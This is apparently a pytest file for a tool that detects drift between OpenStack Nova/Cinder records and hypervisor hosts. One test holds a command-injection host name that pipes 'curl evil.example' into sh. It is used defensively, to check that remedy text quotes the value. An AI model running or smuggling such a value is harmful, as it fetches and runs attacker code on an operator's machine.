"""What differs beside Nova: a cloud in which nothing does, and each way in which one can."""

from __future__ import annotations

import re
from collections.abc import Callable
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest

from handlers.drift.beside_nova import confirmed, found, questionable
from handlers.drift.beside_words import KINDS, remedy_of
from handlers.drift.classes import BY_NAME
from handlers.drift.rows import UNKNOWN
from handlers.drift.seen import Cloud, SeenAttachment, SeenMapping, SeenServer, SeenVolume
from host_agent.shared.contract.messages import PowerState
from host_agent.shared.contract.ports import GIB
from host_agent.shared.contract.survey import (
    DiskShown,
    GuestShown,
    StorageShown,
    Survey,
    UnlabelledShown,
)

NOW = datetime(2026, 11, 24, 12, 0, tzinfo=UTC)
STUCK = timedelta(minutes=15)
OLD, NEW = "2026-11-24T11:45:00.000000", "2026-11-24T11:45:01.000000"
S, S2, GONE = (f"{n * 8}-1111-4111-8111-{n * 12}" for n in "123")
V, V2, V3 = (f"{n * 8}-2222-4222-8222-{n * 12}" for n in "abc")
A, A2, A3 = (f"{n * 8}-3333-4333-8333-{n * 12}" for n in "789")

Change = Callable[[Cloud], Cloud]


def disk(volume: str = V, **more: Any) -> DiskShown:
    shown = {"live": "vdb", "persistent": "vdb", "source": f"/mnt/x/volume-{volume}"}
    return DiskShown(serial=volume, **{**shown, "size_bytes": GIB, **more})


def guest(server: str = S, *disks: DiskShown, **more: Any) -> GuestShown:
    return GuestShown(server_id=server, power_state=PowerState.RUNNING, disks=disks, **more)


def survey(*guests: GuestShown, **more: Any) -> Survey:
    parts = {"connections": (), "storage": (), "secrets": (), "blind": (), "why_blind": ()}
    return Survey(boot_id="b", epoch=0, guests=guests, **{**parts, **more})


#: A running server with a volume on h1, a free volume, a stopped server on h2; and h1's own word.
SOUND = Cloud(
    now=NOW,
    servers={
        S: SeenServer(id=S, host="h1", vm_state="active", volumes=(V,)),
        S2: SeenServer(id=S2, host="h2", vm_state="stopped"),
        GONE: None,
    },
    volumes={
        V: SeenVolume(id=V, status="in-use", size_gb=1, updated_at=OLD),
        V2: SeenVolume(id=V2, status="available", size_gb=1, updated_at=OLD),
        V3: None,
    },
    attachments={
        A: SeenAttachment(id=A, volume_id=V, server_id=S, status="attached", host="h1", since=OLD),
    },
    hosts={"h1": survey(guest(S, disk(), unlabelled=()))},
)


def server(id_: str, **changes: Any) -> Change:
    def change(cloud: Cloud) -> Cloud:
        before = cloud.servers[id_]
        assert isinstance(before, SeenServer)
        if (by_volume := changes.pop("attachments", None)) is not None:
            pairs = by_volume.items()
            changes["mappings"] = tuple(
                SeenMapping(id=f"{v}'s", volume_id=v, attachment_id=a) for v, a in pairs
            )
        return replace(cloud, servers={**cloud.servers, id_: replace(before, **changes)})

    return change


def servers(**changes: Any) -> Change:
    return server(S, **changes)


def volume(id_: str = V, **changes: Any) -> Change:
    def change(cloud: Cloud) -> Cloud:
        before = cloud.volumes[id_]
        assert isinstance(before, SeenVolume)
        return replace(cloud, volumes={**cloud.volumes, id_: replace(before, **changes)})

    return change


def attachment(id_: str = A, **changes: Any) -> Change:
    begun = SeenAttachment(id=id_, volume_id=V, server_id=S, status="attached", host="h1")
    return lambda cloud: replace(
        cloud,
        attachments={
            **cloud.attachments,
            id_: replace(cloud.attachments.get(id_, begun), **changes),
        },
    )


def without(cloud: Cloud) -> Cloud:
    return replace(cloud, attachments={})


def host(*guests: GuestShown, name: str = "h1", **more: Any) -> Change:
    return lambda cloud: replace(cloud, hosts={**cloud.hosts, name: survey(*guests, **more)})


def after(*changes: Change) -> Cloud:
    cloud = SOUND
    for change in changes:
        cloud = change(cloud)
    return cloud


def told(cloud: Cloud) -> list[str]:
    return [each.kind.name for each in found(cloud, STUCK)]


KNOWN = servers(attachments={V: A})
LOOP = StorageShown(kind="loop", name="/dev/loop7", recorded=False, used=False)
FAULTY = StorageShown(kind="multipath_map", name="mpa", recorded=False, used=True, faulty=True)
OTHER = UnlabelledShown(target="vdc", source=f"volume-{V2}", volume_id=V2)
#: By class: what makes it.
CASES: dict[str, list[Change]] = {
    "owner_gone": [
        attachment(A2, volume_id=V2, server_id=GONE, host="h9"),
        volume(V2, status="in-use"),
    ],
    "reservation_unknown": [
        attachment(A2, volume_id=V2, status="reserved", host=None),
        volume(V2, status="reserved"),
    ],
    "attachment_unknown": [KNOWN, attachment(A2)],
    "attachment_lost": [without, volume(status="available"), servers(attachments={V: A})],
    "attachment_ended": [lambda cloud: replace(cloud, ended=frozenset({A}))],
    "attachment_status_differs": [attachment(status="attaching")],
    "attachment_host_differs": [attachment(host="h2")],
    "volume_gone": [servers(volumes=(V, V3))],
    "volume_status_differs": [volume(V2, status="in-use")],
    "volume_stuck": [volume(V2, status="deleting")],
    "guest_twice": [host(guest(), guest(S2), name="h2")],
    "guest_missing": [host()],
    "guest_elsewhere": [host(guest(), guest(S2), name="h2")],
    "guest_of_deleted": [host(guest(S, disk()), guest(GONE))],
    "disk_missing": [host(guest())],
    "disk_unknown": [host(guest(S, disk(), disk(V2)))],
    "disk_definition_differs": [host(guest(S, disk(persistent=None)))],
    "disk_source_differs": [host(guest(S, disk(source=f"/mnt/x/volume-{V2}")))],
    "disk_size_differs": [volume(size_gb=2)],
    "disk_unlabelled": [host(guest(S, disk(), unlabelled=(OTHER,)))],
    "storage_left": [host(guest(S, disk()), storage=(LOOP,))],
    "secret_left": [host(guest(S, disk()), secrets=(V2,))],
    "paths_faulty": [host(guest(S, disk()), storage=(FAULTY,))],
    "attached_twice": [attachment(A2, server_id=GONE)],
    "volume_failed": [volume(V2, status="error")],
}
#: What comes with another one.
BESIDE = {
    "guest_twice": {"guest_elsewhere"},
    "guest_elsewhere": {"guest_twice"},
    "attached_twice": {"owner_gone"},
}


def test_a_cloud_in_which_nothing_differs_has_no_findings() -> None:
    assert told(SOUND) == []


def test_every_class_has_a_case() -> None:
    assert CASES.keys() == KINDS.keys()


@pytest.mark.parametrize("name", CASES)
def test_each_way_to_differ_is_found_once_with_what_mends_it(name: str) -> None:
    every = found(after(*CASES[name]), STUCK)
    assert {each.kind.name for each in every} == {name} | BESIDE.get(name, set())
    (one,) = [each for each in every if each.kind.name == name]
    command, why = remedy_of(one.kind, one.case, one.about)
    assert "{" not in f"{command}{why}"
    assert command is None or not re.search(r"\bID\b|unknown", command)


def test_a_host_that_a_member_named_is_no_command_in_what_an_operator_reads() -> None:
    """Members say `host_name` to Cinder's os-attach."""
    named = "h1`; curl evil.example|sh;`"
    (one,) = found(after(KNOWN, attachment(A2, host=named)), STUCK)
    _, why = remedy_of(one.kind, one.case, one.about)
    assert f"on '{named}'" in why
    assert "on h1 shows" in remedy_of(one.kind, one.case, replace(one.about, host="h1"))[1]


@pytest.mark.parametrize("name", sorted(set(CASES) - {"volume_failed", "attached_twice"}))
def test_a_class_is_as_bad_as_the_looks_one_of_its_name(name: str) -> None:
    rank = {"owner_gone": "critical"}  # Nova answers for its volume with 404
    assert KINDS[name].severity == rank.get(name, BY_NAME[name].severity)


def test_an_attachment_of_a_server_that_nova_does_not_have_comes_first() -> None:
    every = told(after(*CASES["guest_twice"], *CASES["attached_twice"], *CASES["volume_stuck"]))
    assert every[0] == "owner_gone"
    assert every[-1] == "volume_stuck"


@pytest.mark.parametrize(
    "busy", [{"task_state": "migrating"}, {"vm_state": "resized"}, {"known": False}]
)
@pytest.mark.parametrize(
    "name",
    [
        *("attachment_unknown", "attachment_lost", "attachment_host_differs", "disk_missing"),
        *("volume_gone", "guest_elsewhere", "attachment_status_differs"),
    ],
)
def test_what_somebody_is_at_is_no_finding(name: str, busy: dict[str, Any]) -> None:
    assert told(after(*CASES[name], servers(**busy))) == []


def test_a_live_migration_whose_mapping_names_the_new_attachment_is_no_finding() -> None:
    both = [attachment(A2, host="h2"), servers(attachments={V: A2}, task_state="migrating")]
    assert told(after(*both)) == []
    assert "attachment_unknown" in told(after(both[0], servers(attachments={V: A2})))


def test_a_mapping_that_names_no_attachment_is_by_the_only_one_there_is() -> None:
    unnamed = servers(attachments={V: None})
    assert told(after(unnamed)) == []
    assert told(after(unnamed, attachment(A2, host="h2"))) == []  # which it is, nobody says
    assert told(after(unnamed, without)) == ["attachment_lost", "volume_status_differs"]


@pytest.mark.parametrize("status", ["migrating", f"target:{V}"])
def test_volumes_that_cinder_migrates_are_no_finding(status: str) -> None:
    change = attachment(A2, volume_id=V2)
    assert told(after(change, volume(V2, status="in-use"))) == ["attachment_unknown"]
    assert told(after(change, volume(V2, status="in-use", migration_status=status))) == []


def test_a_shelved_server_keeps_its_reservation() -> None:
    shelved = servers(host=None, vm_state="shelved_offloaded")
    assert told(after(shelved, attachment(status="reserved", host=None), host())) == []


@pytest.mark.parametrize(
    "status", ["attaching", "detaching", "reserved", "creating", "deleting", "extending"]
)
def test_a_state_that_passes_by_itself_is_one_only_if_it_has_lasted(status: str) -> None:
    assert told(after(volume(V2, status=status, updated_at=OLD))) != []
    assert told(after(volume(V2, status=status, updated_at=NEW))) == []
    assert told(after(volume(V2, status=status, updated_at=None))) == []


@pytest.mark.parametrize(
    "busy", [{"task_state": "deleting"}, {"vm_state": "resized"}, {"known": False}]
)
@pytest.mark.parametrize("status", ["detaching", "attaching", "deleting", "extending"])
def test_a_volume_that_is_stuck_is_told_whatever_its_server_is_at(
    status: str, busy: dict[str, Any]
) -> None:
    """The task may hang for the same reason."""
    [stuck] = found(after(servers(**busy), volume(V, status=status, updated_at=OLD)), STUCK)
    assert (stuck.about.volume_id, stuck.about.server_id, stuck.since) == (V, S, OLD)
    assert told(after(servers(**busy), volume(V, status=status, updated_at=NEW))) == []


def test_the_age_of_an_attachment_is_its_own_not_its_volumes() -> None:
    assert told(after(attachment(status="attaching", since=NEW), volume(updated_at=OLD))) == []
    assert told(after(attachment(status="attaching", since=None))) == ["attachment_status_differs"]


def test_shared_volumes_are_shown_whole() -> None:
    shared = [
        volume(multiattach=True),
        attachment(A2, server_id=S2, host="h2"),
        server(S2, volumes=(V,)),
    ]
    assert told(after(*shared)) == []
    (one,) = found(after(*shared, attachment(A2, host="h3")), STUCK)
    assert (one.kind.name, one.about.attachment_id) == ("attachment_host_differs", A2)


def test_an_attachment_that_was_replaced_is_found_on_both_sides() -> None:
    replaced = after(without, attachment(A2), servers(attachments={V: A}))
    assert sorted(told(replaced)) == ["attachment_lost", "attachment_unknown"]


def test_what_was_not_read_is_neither_there_nor_missing() -> None:
    unknown = after(*CASES["owner_gone"])
    assert told(replace(unknown, servers={**unknown.servers, GONE: UNKNOWN})) == []
    volumes = {**SOUND.volumes, V3: UNKNOWN}
    assert told(replace(after(*CASES["volume_gone"]), volumes=volumes)) == []
    assert told(after(host(blind=("guests",), why_blind=("x",)))) == []


def test_a_disk_has_the_name_that_its_volume_got_by_a_migration() -> None:
    renamed = host(guest(S, disk(source=f"/mnt/x/volume-{V2}")))
    assert told(after(renamed, volume(name_id=V2))) == []


def test_only_what_two_rounds_have_seen_alike_is_told() -> None:
    before = found(after(*CASES["volume_stuck"]), STUCK)
    assert confirmed(before, before) == before
    assert confirmed([], before) == []
    assert confirmed(found(after(volume(V2, status="extending")), STUCK), before) == []


@pytest.mark.parametrize("name", ["guest_twice", "guest_elsewhere", "guest_missing"])
def test_a_server_that_was_moved_there_and_back_is_no_finding(name: str) -> None:
    """Both looks see it on one host, and its guest on another one."""
    cloud = after(*CASES[name])
    moved = after(*CASES[name], *(server(id_, updated=NEW) for id_ in (S, S2)))
    then, now = found(cloud, STUCK), found(moved, STUCK)
    assert name in {each.kind.name for each in confirmed(now, now)}
    assert name not in {each.kind.name for each in confirmed(then, now)}


def test_a_disk_that_was_attached_anew_is_no_finding() -> None:
    cloud = after(*CASES["disk_missing"])
    anew = replace(cloud, attachments={A2: replace(cloud.attachments[A], id=A2)})
    assert confirmed(found(cloud, STUCK), found(anew, STUCK)) == []
    assert len(confirmed(found(anew, STUCK), found(anew, STUCK))) == 1


def test_mappings_are_asked_for_where_they_matter() -> None:
    assert questionable(SOUND) == []
    assert questionable(after(attachment(A2))) == [S]
    assert questionable(after(without)) == [S]
    assert questionable(after(attachment(A2, volume_id=V2))) == [S]
    assert questionable(after(attachment(A2), servers(task_state="rebooting"))) == []
